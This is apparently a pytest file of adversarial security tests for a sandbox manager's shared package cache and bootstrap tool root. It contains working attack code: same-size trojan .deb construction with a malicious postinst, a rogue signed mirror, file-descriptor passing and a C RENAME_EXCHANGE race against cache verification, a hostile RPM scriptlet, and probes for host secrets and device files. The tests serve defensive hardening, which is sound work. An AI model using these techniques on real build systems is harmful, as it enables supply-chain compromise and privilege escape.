"""Attack 10b: an attacker's review of the verified package cache (debcache.py, debindex.py, toolroot.py).

The cache's promise: no sandbox or build step changes what is in
``cache/DISTRO-RELEASE-ARCH/apt-archives``, nothing gets in that does not match the
signed index, and nothing installs what does not match it. Sandboxes and build steps
see the cache through an overlay and their apt trusts a cached .deb whose size
matches the index, so every one of these attacks ends the same way: a same-size trojan
in the shared cache, and another profile's image (or a sandbox's apt-get install)
running its postinst.

Each test fails on 3c268fe (the attack works) and names the hole it proves:

- a bootstrap hook (or maintainer script) writes the cache's own inodes, which
  stage() hard-linked into the build's tmp dir;
- a profile with its own mirror and keyring shares the cache of its
  distro/release/arch, and keep() puts what verifies against *its* index into it;
- a build step hands an open file of its cache view to a running sandbox (abstract
  unix socket: both are in the host's network namespace); keep() renames that very
  inode into the cache, and the sandbox rewrites it afterwards;
- a packages layer over a reused bootstrap layer (and every sandbox) uses the
  cache without any verification, so a file planted in it is installed.

And the tool root (toolroot.py), which is to keep a bootstrap's hooks and maintainer
scripts off the host:

- a profile's ``file://`` mirror (and keyring) is bound recursively: ``mirror: file:///``
  shows the host's whole tree, unmasked, with its submounts (/sys, /dev, /dev/shm, the
  cgroup file systems) read-write;
- /dev's nodes (and the /dev/null that masks /etc/shadow, /proc/keys ...) are the host's
  own inodes bound read-write: chmod on them changes the host's /dev/null; the host's
  environment reaches the tool; it shares the host's network namespace;
- the host's dnf gets the shared dnf cache read-write, and rpm runs scriptlets there.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import shutil
import subprocess
import threading
import time
import uuid
from collections.abc import Iterator
from functools import partial
from pathlib import Path

import pytest

from sandboxmgr.builders import debindex
from tests.adversarial.conftest import fresh_tiny
from tests.adversarial.test_cache import make_trojan
from tests.conftest import CLI, DEBIAN_KEYRING, DEBIAN_MIRROR, ConcurrentBuild, debian_archives, missing
from tests.rpmrepo import RpmRepo, tiny_profile

pytestmark = [pytest.mark.adversarial, pytest.mark.root, pytest.mark.network]

CACHE_KEY = "debian-bookworm-amd64"
CACHED = debian_archives()
# A sandbox that installs hello and says whether a trojan's postinst ran.
INSTALL_HELLO = "apt-get install -y -q hello >/dev/null 2>&1; hello; ls /TROJAN-RAN 2>&1; true"


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def signed_index(cli: CLI) -> debindex.PackageIndex:
    key = hashlib.sha256(DEBIAN_KEYRING.read_bytes()).hexdigest()[:16]
    index = debindex.load_saved(cli.store / f"cache/{CACHE_KEY}/index", DEBIAN_MIRROR, ("main",), "amd64", key)
    assert index is not None, "the build saved no verified index"
    return index


def cached_hello(cli: CLI) -> Path | None:
    found = sorted((cli.store / CACHED).glob("hello_*_amd64.deb"))
    return found[0] if found else None


def assert_cache_is_genuine(cli: CLI) -> None:
    """Every .deb the signed index lists is, in the cache, what the index says."""
    index = signed_index(cli)
    wrong = [p.name for p in sorted((cli.store / CACHED).glob("*.deb"))
             if p.name in index.packages and (p.is_symlink() or sha256(p) != index.packages[p.name][1])]
    assert not wrong, f"files in the shared package cache do not match the signed index: {wrong}"


def assert_sandbox_installs_the_genuine_hello(cli: CLI) -> None:
    out = cli.ok("run", "debian-bookworm", "sh", "-c", INSTALL_HELLO).out
    assert "Hello, world!" in out and "No such file" in out, out


def scrub(cli: CLI) -> None:
    """Leave the session's cache as a fixed build would: what does not match the signed index goes."""
    index = signed_index(cli)
    for path in (cli.store / CACHED).glob("*.deb"):
        expected = index.packages.get(path.name)
        if expected is not None and (path.is_symlink() or sha256(path) != expected[1]):
            path.unlink()


@pytest.fixture(scope="module")
def hello_cached(cli: CLI, bookworm: ConcurrentBuild, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """hello's genuine .deb in the cache (a packages layer downloaded it), copied out: its path."""
    assert cli.configs is not None
    scrub(cli)
    (cli.configs / "atk-hello.yaml").write_text("extends: debian-bookworm\npackages: [hello]\n")
    cli.ok("build", "atk-hello")
    deb = cached_hello(cli)
    if deb is None:  # the layer was there already: a sandbox cannot fill the cache, a rebuild can
        cli.ok("build", "--rebuild", "atk-hello")
        deb = cached_hello(cli)
    assert deb is not None
    assert sha256(deb) == signed_index(cli).packages[deb.name][1]
    keep = tmp_path_factory.mktemp("atk-genuine") / deb.name
    shutil.copyfile(deb, keep)
    return keep


@pytest.fixture
def trojan(hello_cached: Path, tmp_path: Path, host_marker: Path) -> Path:
    out = tmp_path / "trojan" / "hello.deb"
    out.parent.mkdir()
    make_trojan(hello_cached, out, host_marker)
    assert out.stat().st_size == hello_cached.stat().st_size
    return out


@pytest.fixture
def restore(cli: CLI) -> Iterator[None]:
    yield
    scrub(cli)


def test_a_bootstrap_hook_cannot_rewrite_the_caches_own_files_through_the_stage(
        cli: CLI, hello_cached: Path, restore: None) -> None:
    """stage() hands the bootstrap tool hard links: the cache's own inodes, writable by root
    in the tool root (mmdebstrap even links them into the new root's archives, where a
    maintainer script in the chroot reaches them). A hook rewrites hello in place with a
    same-size trojan; no later build or sandbox may install it."""
    assert cli.configs is not None
    if shutil.which("dpkg-deb") is None:
        missing("dpkg-deb is not installed")
    # The trojan is made inside the tool root (the host's dpkg-deb is there), from the staged file.
    hook = ("g=$(ls \"$1\"/../stage/hello_*_amd64.deb) || exit 0; t=$(mktemp -d);"
            " dpkg-deb -R \"$g\" $t/tree;"
            " printf '#!/bin/sh\\ntouch /TROJAN-RAN\\nexit 0\\n' > $t/tree/DEBIAN/postinst;"
            " chmod 755 $t/tree/DEBIAN/postinst; rm -rf $t/tree/usr/share/locale $t/tree/usr/share/info;"
            " dpkg-deb -Zxz -z9 -b $t/tree $t/x.deb >/dev/null;"
            " head -c $(($(stat -c %s \"$g\") - $(stat -c %s $t/x.deb))) /dev/zero | tr '\\0' '\\n' >> $t/x.deb;"
            " cat $t/x.deb > \"$g\"; echo REWROTE-IN-PLACE")
    (cli.configs / "atk-inplace.yaml").write_text(
        "extends: debian-bookworm\nbootstrap:\n  method: mmdebstrap\n"
        f"  extra_args: {json.dumps(['--customize-hook=' + hook])}\n")
    try:
        cli.ok("build", "atk-inplace")
        log = next((cli.store / "logs").glob("build-atk-inplace-*.log")).read_text(errors="replace")
        assert "REWROTE-IN-PLACE" in log  # the attack ran (against whatever the hook was given)
        assert_cache_is_genuine(cli)
        assert_sandbox_installs_the_genuine_hello(cli)
    finally:
        cli("rmi", "atk-inplace")


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def evil_mirror(tmp_path: Path, trojan: Path, hello_cached: Path) -> Iterator[tuple[str, Path]]:
    """A Debian mirror of the attacker's own, over http on 127.0.0.1, signed with the attacker's
    key: its index lists hello under the genuine name and size, with the trojan's SHA256."""
    for tool in ("gpg", "gpgv", "perl"):
        if shutil.which(tool) is None:
            missing(f"{tool} is not installed")
    repo = tmp_path / "evil-repo"
    packages = repo / "dists/bookworm/main/binary-amd64/Packages"
    packages.parent.mkdir(parents=True)
    (repo / "pool").mkdir()
    shutil.copyfile(trojan, repo / "pool/hello.deb")
    package, version, arch = hello_cached.name[:-len(".deb")].split("_")
    packages.write_text(f"Package: {package}\nVersion: {version.replace('%3a', ':')}\nArchitecture: {arch}\n"
                        f"Filename: pool/hello.deb\nSize: {trojan.stat().st_size}\nSHA256: {sha256(trojan)}\n\n")
    release = repo / "dists/bookworm/Release"
    release.write_text("Origin: Debian\nCodename: bookworm\nArchitectures: amd64\nComponents: main\nSHA256:\n"
                       f" {sha256(packages)} {packages.stat().st_size} main/binary-amd64/Packages\n")
    home = tmp_path / "gnupg"
    home.mkdir(mode=0o700)
    gpg = ["gpg", "--homedir", str(home), "--batch", "--quiet", "--passphrase", ""]
    subprocess.run([*gpg, "--quick-gen-key", "Evil Mirror <evil@example.invalid>", "ed25519", "sign", "never"],
                   check=True, capture_output=True)
    keyring = tmp_path / "evil-keyring.gpg"
    keyring.write_bytes(subprocess.run([*gpg, "--export"], check=True, capture_output=True).stdout)
    subprocess.run([*gpg, "--yes", "--clearsign", "-o", str(release.with_name("InRelease")), str(release)],
                   check=True, capture_output=True)
    if shutil.which("gpgconf") is not None:  # gpg leaves an agent running for its home
        subprocess.run(["gpgconf", "--homedir", str(home), "--kill", "all"], capture_output=True, check=False)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(repo)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", keyring
    finally:
        server.shutdown()
        server.server_close()


def test_a_profile_with_its_own_mirror_and_keyring_cannot_fill_the_shared_cache(
        cli: CLI, hello_cached: Path, evil_mirror: tuple[str, Path], restore: None) -> None:
    """The cache is shared by distro/release/arch, but verified against the index of whichever
    profile builds: a project profile that says `distro: debian, release: bookworm` with a
    mirror and keyring of its own gets its trojan verified (against its own index) and renamed
    into the cache every bookworm profile and sandbox uses. (Its bootstrap is the real one:
    a setup hook points apt at deb.debian.org; a customize hook drops the trojan in the archives.)"""
    assert cli.configs is not None
    mirror, keyring = evil_mirror
    fetch = (f"perl -MHTTP::Tiny -e 'HTTP::Tiny->new->mirror(\"{mirror}/pool/hello.deb\", $ARGV[0])'"
             f" \"$1\"/var/cache/apt/archives/{hello_cached.name}")
    extra = ["--keyring=/usr/share/keyrings/debian-archive-keyring.gpg",
             '--setup-hook=echo "deb [signed-by=/usr/share/keyrings/debian-archive-keyring.gpg]'
             f' {DEBIAN_MIRROR} bookworm main" > "$1"/etc/apt/sources.list',
             f"--customize-hook={fetch}"]
    (cli.configs / "atk-own-mirror.yaml").write_text(
        "distro: debian\nrelease: bookworm\n"
        f"bootstrap:\n  method: mmdebstrap\n  variant: minbase\n  mirror: {mirror}\n  keyring: {keyring}\n"
        f"  extra_args: {json.dumps(extra)}\n")
    try:
        cli.ok("build", "atk-own-mirror")
        assert_cache_is_genuine(cli)
        assert_sandbox_installs_the_genuine_hello(cli)
    finally:
        cli("rmi", "atk-own-mirror")


# The receiving end of both fd-passing attacks: listen on an abstract socket, take one fd.
ACCEPT_FD = """s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind("\\0" + {name})
s.listen(1)
print("LISTENING", flush=True)
s.settimeout(120)
c, _ = s.accept()
_, fds, _, _ = socket.recv_fds(c, 16, 1)
fd = fds[0]
"""

RECEIVER = """
import os, socket, sys, time
""" + ACCEPT_FD.format(name="sys.argv[1]") + """print("GOT", os.fstat(fd).st_ino, flush=True)
first = os.fstat(fd).st_ctime_ns
deadline = time.monotonic() + 60
while os.fstat(fd).st_ctime_ns == first and time.monotonic() < deadline:
    time.sleep(0.01)       # keep() chowns, chmods and renames the file it verified
time.sleep(2)
os.pwrite(fd, open("/t/hello.deb", "rb").read(), 0)
os.fsync(fd)
print("WROTE", flush=True)
"""


def test_a_sandbox_holding_a_build_steps_download_cannot_rewrite_it_once_kept(
        cli: CLI, hello_cached: Path, trojan: Path, restore: None) -> None:
    """No hook, no keyring of its own, only the real mirror: a setup step downloads hello into
    its cache view and passes the open file to a running sandbox over an abstract unix socket
    (build steps and sandboxes share the host's network namespace). keep() verifies the file
    and renames that same inode into the cache; the sandbox then writes the trojan through
    its descriptor, into the shared cache."""
    assert cli.configs is not None
    socket_name = f"atk-cache-{uuid.uuid4().hex[:12]}"
    (trojan.parent / "recv.py").write_text(RECEIVER)
    (cli.configs / "atk-py.yaml").write_text("extends: debian-bookworm\npackages: [python3-minimal]\n")
    sender = ("python3 -c 'import socket,os,glob,sys; s=socket.socket(socket.AF_UNIX); "
              "s.connect(\"\\0\"+sys.argv[1]); f=glob.glob(\"/var/cache/apt/archives/hello_*.deb\")[0]; "
              f"socket.send_fds(s,[b\"x\"],[os.open(f,os.O_RDWR)])' {socket_name}")
    (cli.configs / "atk-fd.yaml").write_text(
        "extends: atk-py\nsetup:\n  - |\n"
        f"    # {socket_name}\n"
        "    rm -f /var/cache/apt/archives/hello_*.deb\n"
        "    apt-get install -y -q -d hello >/dev/null\n"
        f"    {sender}\n")
    cli.ok("build", "atk-py")
    receiver = cli.popen("run", "-v", f"{trojan.parent}:/t:ro", "atk-py", "python3", "/t/recv.py", socket_name)
    try:
        assert receiver.stdout is not None
        assert receiver.stdout.readline().strip() == "LISTENING"
        cli.ok("build", "atk-fd")
        out, err = receiver.communicate(timeout=120)
        assert "WROTE" in out, (out, err)
        time.sleep(0.5)
        assert_cache_is_genuine(cli)
        assert_sandbox_installs_the_genuine_hello(cli)
    finally:
        if receiver.poll() is None:
            receiver.kill()
            receiver.communicate()
        cli("rmi", "atk-fd")


def test_a_package_planted_in_the_cache_is_not_installed_by_a_build_over_a_reused_bootstrap(
        cli: CLI, hello_cached: Path, trojan: Path, restore: None) -> None:
    """Only a bootstrap verifies the cache (stage()); a packages layer over a bootstrap layer
    that exists already, and every sandbox, see the cache as it is - and apt trusts a cached
    .deb of the right size. Planted as a local user with access to the store would (or as any
    of the attacks above does), the trojan must not reach a new image."""
    assert cli.configs is not None
    target = cli.store / CACHED / hello_cached.name
    target.unlink(missing_ok=True)
    shutil.copyfile(trojan, target)
    os.utime(target, (time.time() - 3600, time.time() - 3600))
    (cli.configs / "atk-reused.yaml").write_text(
        "extends: debian-bookworm\npackages: [hello, tree]\n")
    try:
        cli.ok("build", "atk-reused")
        out = cli.ok("run", "atk-reused", "sh", "-c", "hello; ls /TROJAN-RAN 2>&1; true").out
        assert "Hello, world!" in out and "No such file" in out, out
    finally:
        cli("rmi", "atk-reused")


def hook_profile(cli: CLI, name: str, hook: str, extra: str = "") -> str:
    """A profile whose mmdebstrap setup hook runs ``hook`` (as a hostile profile's would) and
    fails the bootstrap right after, so the probe costs seconds; the build log's text."""
    assert cli.configs is not None
    (cli.configs / f"{name}.yaml").write_text(
        f"extends: debian-bookworm\nbootstrap:\n  method: mmdebstrap\n{extra}"
        f"  extra_args: {json.dumps(['--setup-hook=echo PROBE-BEGIN; ' + hook + '; echo PROBE-END; exit 1'])}\n")
    result = cli("build", name)
    assert result.code == 125, str(result)  # the hook fails the bootstrap on purpose
    logs = sorted((cli.store / "logs").glob(f"build-{name}-*.log"), key=lambda p: p.stat().st_mtime)
    text = logs[-1].read_text(errors="replace")
    assert "PROBE-END" in text, text[-3000:]
    return text.split("\nPROBE-BEGIN\n")[-1].split("\nPROBE-END")[0]


def test_a_file_mirror_does_not_show_the_hosts_tree_to_the_bootstrap(
        cli: CLI, bookworm: ConcurrentBuild, host_marker: Path) -> None:
    """readable_paths() binds the profile's file:// mirror into the tool root, recursively and
    read-only only at the top: `mirror: file:///` lays the host's whole / over the tool root -
    every file (the masks of /etc are under it), and /sys, /sys/fs/cgroup/*, /dev (the host's
    devtmpfs) and /dev/shm read-write. (The index cannot be fetched from there, so nothing is
    verified and the bootstrap runs.)"""
    # `/` is refused before anything runs, with what to do instead.
    assert cli.configs is not None
    (cli.configs / "atk-file-slash.yaml").write_text(
        "extends: debian-bookworm\nbootstrap:\n  method: mmdebstrap\n  mirror: file:///\n")
    refused = cli("build", "atk-file-slash")
    assert refused.code == 125 and "too much of the host to show to the bootstrap tool" in refused.err, refused
    assert "hint: point it at a directory or file of its own" in refused.err
    # A mirror directory of its own is shown alone: nothing mounted below it on the host comes along.
    mirror = host_marker.parent.parent / "atk-mirror"
    (mirror / "sub").mkdir(parents=True, exist_ok=True)
    seen = hook_profile(cli, "atk-file-root",
                        f"cat {host_marker} 2>&1; echo shadow-lines=$(grep -c : /etc/shadow);"
                        " awk '$6 ~ /^rw/ {print \"rw-mount\", $5, $9}' /proc/self/mountinfo",
                        extra=f"  mirror: file://{mirror}\n")
    assert host_marker.read_text().strip() not in seen, seen
    assert "shadow-lines=0" in seen, seen
    rw = [line for line in seen.splitlines() if line.startswith("rw-mount ")]
    # (/dev/shm and /tmp are tmpfs of the tool root's own.)
    hosts = [line for line in rw if line.split()[2] in ("sysfs", "cgroup", "cgroup2", "devtmpfs")
             or line.split()[1].startswith("/sys")]
    assert not hosts, hosts


def test_the_tool_root_leaks_nothing_of_the_host(cli: CLI, bookworm: ConcurrentBuild,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """What a bootstrap hook (or maintainer script) reaches besides its tool root: the host's
    device inodes (chmod on /dev/null, and on /etc/shadow's mask, which is the host's
    /dev/null too), the environment of whoever ran sandboxmgr (CI tokens), the host's abstract
    unix sockets (its network namespace)."""
    if shutil.which("perl") is None:
        missing("perl is not installed")
    import socket

    monkeypatch.setenv("ATK_CI_TOKEN", "hunter2-from-the-ci")
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"atk-host-service-{uuid.uuid4().hex[:12]}"
    listener.bind("\0" + name)
    listener.listen(4)
    got: list[bytes] = []

    def serve() -> None:
        listener.settimeout(120)
        try:
            connection, _ = listener.accept()
            got.append(connection.recv(100))
            connection.close()
        except OSError:
            pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    before = os.stat("/dev/null")
    try:
        seen = hook_profile(
            cli, "atk-tool-leaks",
            "chmod 0666 /dev/null 2>/dev/null && echo leak=chmod-host-dev-null;"
            " chmod 0666 /etc/shadow 2>/dev/null && echo leak=chmod-shadow-mask;"
            " env | grep -q ATK_CI_TOKEN && echo leak=host-environment;"
            " perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => \"\\0\" . $ARGV[0]) or exit 1;"
            f" print \"leak=host-abstract-socket\\n\"' {name}")
    finally:
        listener.close()
        thread.join(5)
    after = os.stat("/dev/null")
    leaks = [line for line in seen.splitlines() if line.startswith("leak=")]
    if after.st_ctime_ns != before.st_ctime_ns:
        leaks.append("the host's /dev/null inode changed (ctime)")
    # The bootstrap tool has the host's network, as a sandbox with --network host: its
    # abstract unix sockets may be reachable (the README lists it as not defended).
    if "leak=host-abstract-socket" in leaks:
        leaks.remove("leak=host-abstract-socket")
    assert not leaks, leaks


EVIL_SPEC = """\
%global __os_install_post %{nil}
%global debug_package %{nil}
%define _build_id_links none
Name: tinydistro-evil
Version: 1
Release: 1
Summary: A scriptlet that writes where the host's dnf keeps the shared cache
License: MIT
BuildArch: noarch
Requires: tinydistro-busybox

%description
Hostile.

%install
mkdir -p %{buildroot}/usr/share/evil
echo x > %{buildroot}/usr/share/evil/x

%post
echo planted > /var/cache/dnf/PLANTED-BY-SCRIPTLET
ls /var/cache/dnf > /var/cache/dnf/LISTED-BY-SCRIPTLET
exit 0

%files
/usr/share/evil/x
"""


def test_an_rpm_scriptlet_cannot_write_the_shared_dnf_cache(tmp_path: Path, rpm_repo: RpmRepo) -> None:
    """The host's dnf (bootstrap, and `packages` of an image without a dnf of its own) gets
    the shared cache as a plain read-write bind under its installroot (rpm.py's PreMount),
    and rpm runs the packages' scriptlets chrooted there: a hostile repository's %post writes
    the cache every later build of the distro/release/arch reads (the legitimate
    repository's packages/ and repodata/ included: with gpgcheck off, or with metadata
    not yet expired, dnf uses what it finds there)."""
    from tests.rpmrepo import _rpm_env, _run

    work = tmp_path / "evil-rpm"
    (work / "SPECS").mkdir(parents=True)
    (work / "SPECS/evil.spec").write_text(EVIL_SPEC)
    env = _rpm_env(work)
    _run(["rpmbuild", "-bb", "--nodeps", "--quiet", "--define", f"_topdir {work}",
          "--define", f"_dbpath {work / 'rpmdb'}", str(work / "SPECS/evil.spec")], env)
    repo = tmp_path / "evil-repo"
    repo.mkdir()
    for rpm in [*rpm_repo.unsigned.glob("*.rpm"), *(work / "RPMS").glob("*/*.rpm")]:
        shutil.copy2(rpm, repo / rpm.name)
    _run(["createrepo_c", "--quiet", "--no-database", str(repo)], env)
    cli = fresh_tiny(tmp_path / "t", rpm_repo)
    cli.ok("build", "tiny")  # the legitimate profile fills the cache first
    assert cli.configs is not None
    (cli.configs / "tiny-evil.yaml").write_text(
        tiny_profile(rpm_repo, repo_dir=repo, gpgcheck=False).replace(
            "include: [tinydistro-release, tinydistro-busybox]",
            "include: [tinydistro-release, tinydistro-busybox, tinydistro-evil]"))
    cli.ok("build", "tiny-evil")
    planted = sorted(p.name for p in cli.store.glob("cache/*/dnf/*-BY-SCRIPTLET"))
    assert not planted, f"an rpm scriptlet wrote into the shared dnf cache: {planted}"


# A build step's cache view, held open by a sandbox after the step ended (see the test
# above), and what keep() does to it by name: lstat, open and hash, then chown, chmod
# (which follows a symlink) and rename of whatever has that name by then.
TRIGGER_C = r"""
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>
#include <linux/fs.h>
/* trigger DIRFD PARTNER SECONDS PREFIX: for every regular PREFIX*.deb in DIRFD, swap it
   (RENAME_EXCHANGE) with PARTNER the moment its atime moves: the host has begun to read
   it to verify it. PARTNER "->PATH": a symlink to PATH made per file; else an existing file. */
int main(int argc, char **argv) {
    int dirfd = atoi(argv[1]), n = 0, swapped = 0;
    static char names[512][256], partners[512][256];
    static struct timespec seen[512];
    static int done[512];
    DIR *d = fdopendir(dup(dirfd));
    struct dirent *e;
    struct stat st;
    while ((e = readdir(d)) && n < 512) {
        size_t l = strlen(e->d_name);
        if (l < 5 || strcmp(e->d_name + l - 4, ".deb") || strncmp(e->d_name, argv[4], strlen(argv[4]))
            || fstatat(dirfd, e->d_name, &st, AT_SYMLINK_NOFOLLOW) || !S_ISREG(st.st_mode))
            continue;
        strcpy(names[n], e->d_name);
        if (!strncmp(argv[2], "->", 2)) {
            snprintf(partners[n], sizeof partners[n], ".link%d", n);
            symlinkat(argv[2] + 2, dirfd, partners[n]);
        } else {
            snprintf(partners[n], sizeof partners[n], "%s", argv[2]);
        }
        seen[n++] = st.st_atim;
    }
    printf("WATCHING %d\n", n);
    fflush(stdout);
    for (time_t end = time(NULL) + atoi(argv[3]); time(NULL) < end;)
        for (int i = 0; i < n; i++) {
            if (done[i] || fstatat(dirfd, names[i], &st, AT_SYMLINK_NOFOLLOW)) continue;
            if (st.st_atim.tv_sec != seen[i].tv_sec || st.st_atim.tv_nsec != seen[i].tv_nsec) {
                swapped += !syscall(SYS_renameat2, dirfd, names[i], dirfd, partners[i], RENAME_EXCHANGE);
                done[i] = 1;
            }
        }
    printf("SWAPPED %d\n", swapped);
    return 0;
}
"""

RACE_RECEIVER = """
import os, socket, sys
name, partner, prefix = sys.argv[1:4]
""" + ACCEPT_FD.format(name="name") + """os.set_inheritable(fd, True)
if not partner.startswith("->"):
    out = os.open(partner, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
    os.write(out, open("/t/hello.deb", "rb").read())
    os.close(out)
os.execv("/r/trigger", ["/r/trigger", str(fd), partner, "20", prefix])
"""


def race_keep(cli: CLI, tmp: Path, trojan: Path, packages: str, partner: str, prefix: str) -> str:
    """A setup step downloads ``packages`` into its cache view and hands the view's directory to
    a running sandbox, which swaps each downloaded file with ``partner`` as keep() reads it.
    The sandbox's output."""
    assert cli.configs is not None
    gcc = shutil.which("gcc")
    if gcc is None:
        missing("gcc is not installed")
        raise AssertionError
    tools = tmp / "race"
    tools.mkdir()
    (tools / "trigger.c").write_text(TRIGGER_C)
    built = subprocess.run([gcc, "-static", "-O2", "-o", str(tools / "trigger"), str(tools / "trigger.c")],
                           capture_output=True, text=True)
    if built.returncode != 0:
        missing(f"gcc -static failed: {built.stderr[-300:]}")
    (tools / "recv.py").write_text(RACE_RECEIVER)
    name = f"atk-race-{uuid.uuid4().hex[:12]}"
    send = ("python3 -c 'import socket,os,sys; s=socket.socket(socket.AF_UNIX); s.connect(\"\\0\"+sys.argv[1]);"
            " socket.send_fds(s,[b\"x\"],[os.open(\"/var/cache/apt/archives\",os.O_RDONLY|os.O_DIRECTORY)])'"
            f" {name}")
    (cli.configs / f"{name}.yaml").write_text(
        "extends: atk-py\nsetup:\n  - |\n"
        f"    for p in {packages}; do rm -f /var/cache/apt/archives/\"$p\"_*.deb; done\n"
        f"    apt-get install -y -q -d --reinstall {packages} >/dev/null\n"
        f"    {send}\n")
    (cli.configs / "atk-py.yaml").write_text("extends: debian-bookworm\npackages: [python3-minimal]\n")
    cli.ok("build", "atk-py")
    receiver = cli.popen("run", "-v", f"{tools}:/r:ro", "-v", f"{trojan.parent}:/t:ro", "atk-py",
                         "python3", "/r/recv.py", name, partner, prefix)
    try:
        assert receiver.stdout is not None
        assert receiver.stdout.readline().strip() == "LISTENING"
        cli("build", name)  # may fail: the sandbox renames in the step's upper dir while it is removed
        out, err = receiver.communicate(timeout=120)
        assert "WATCHING" in out, (out, err)
        return out
    finally:
        if receiver.poll() is None:
            receiver.kill()
            receiver.communicate()
        cli("rmi", name)


def test_keep_never_follows_or_renames_what_a_sandbox_swapped_in(
        cli: CLI, hello_cached: Path, trojan: Path, tmp_path: Path, restore: None) -> None:
    """keep() checks a file by name and then chmods it by name (following a symlink, as the
    host's root: chmod 0644 of any host path the sandbox names) and renames it by name (a
    symlink, or another file, lands in the cache, and the memo records the swapped file's
    stamp with the genuine SHA256, so stage() trusts it from then on)."""
    victim = tmp_path / "host-file-0600"
    victim.write_text("the host's, readable by root only\n")
    victim.chmod(0o600)
    race_keep(cli, tmp_path, trojan, "libc6 coreutils perl-base", f"->{victim}", "")
    links = sorted(p.name for p in (cli.store / CACHED).iterdir() if p.is_symlink())
    assert oct(victim.stat().st_mode & 0o777) == "0o600" and not links, (oct(victim.stat().st_mode), links)
    assert_cache_is_genuine(cli)


def test_the_verified_memo_cannot_be_made_to_vouch_for_a_swapped_file(
        cli: CLI, hello_cached: Path, trojan: Path, tmp_path: Path, restore: None) -> None:
    """The same race with the trojan as the partner: after it, `build --no-cache` (the README's
    remedy for a suspected cache) must still refuse the trojan - stage() hashes what it does
    not know, and the memo must only vouch for what was hashed."""
    assert cli.configs is not None
    race_keep(cli, tmp_path, trojan, "hello", ".trojan-partner", "hello_")
    (cli.configs / "atk-memo.yaml").write_text("extends: debian-bookworm\npackages: [hello, bc]\n")
    try:
        cli.ok("build", "--no-cache", "atk-memo")
        out = cli.ok("run", "atk-memo", "sh", "-c", "hello; ls /TROJAN-RAN 2>&1; true").out
        assert "Hello, world!" in out and "No such file" in out, out
    finally:
        cli("rmi", "atk-memo")
